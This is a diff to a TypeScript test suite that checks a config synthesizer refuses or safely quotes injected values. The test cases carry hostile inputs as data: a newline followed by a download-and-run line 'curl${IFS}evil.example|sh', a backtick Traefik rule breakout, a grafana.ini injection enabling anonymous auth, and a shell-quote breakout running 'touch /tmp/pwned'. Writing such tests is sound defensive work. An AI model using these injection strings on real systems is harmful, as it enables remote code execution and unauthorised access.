@@ -4,7 +4,9 @@
  * is refused with the field's path — never a stack trace — or, in the one free-text field (the Dex
  * configuration, a YAML document), comes out byte-exact as data in argocd-cm.
  */
+import { spawnSync } from 'node:child_process';
 import { parse } from 'yaml';
+import { synthesize } from '../charts/synth';
 import { ConfigError, REDACTED, resolveSite, validateSite } from '../config/load';
 import { scanForSecrets } from '../config/secret-scan';
 import { inputWith, PAYLOADS, stringFields } from './corpus';
@@ -133,5 +135,33 @@ describe('every error is a field-path message, never a stack trace', () => {
     } catch (e) {
       expect(e).toBeInstanceOf(ConfigError);
     }
+  });
+});
+
+describe('second line of defence: the emitters quote or refuse even when validation is bypassed', () => {
+  const base = validateSite({});
+  const forged = (patch: (s: typeof base) => void) => {
+    const s = structuredClone(base);
+    patch(s);
+    return s;
+  };
+  test.each<[string, (s: typeof base) => void]>([
+    ['a newline in vault.address (the reported attack on setup.sh)', (s) => void (s.vault.address = 'https://vault.domus.lan:8200/\ncurl${IFS}evil.example|sh')],
+    ['a backtick in the domain (Traefik rule)', (s) => void (s.cluster.domain = 'domus.lan`) || Host(`evil')],
+    ['a newline in the domain (grafana.ini)', (s) => void (s.cluster.domain = 'domus.lan\n[auth.anonymous]\nenabled = true')],
+  ])('%s: synthesis refuses to emit it', (_n, patch) => {
+    expect(() => synthesize(forged(patch))).toThrow(/cannot emit/);
+  });
+  test('quotes in a Vault mount are shell- and HCL-quoted, never interpreted', () => {
+    const s = synthesize(forged((x) => void (x.vault.authMount = "k3s'; touch /tmp/pwned; '")));
+    const setup = s.files.get('bootstrap/vault/setup.sh')!;
+    expect(setup).toContain(`'-path=k3s'\\''; touch /tmp/pwned; '\\'''`);
+    const check = spawnSync('bash', ['-n'], { input: setup, encoding: 'utf8' });
+    expect(check.status).toBe(0);
+  });
+  test('the default setup.sh is valid bash and every policy is valid HCL-ish quoting', () => {
+    const s = synth();
+    expect(spawnSync('bash', ['-n'], { input: s.files.get('bootstrap/vault/setup.sh')!, encoding: 'utf8' }).status).toBe(0);
+    for (const [path, text] of s.files) if (path.endsWith('.hcl')) expect(text).toMatch(/^(#.*\n)(\npath "[^"$%\\]+" \{\n {2}capabilities = \["(read|update)"\]\n\}\n|path "[^"$%\\]+" \{\n {2}capabilities = \["(read|update)"\]\n\}\n)+$/);
   });
 });
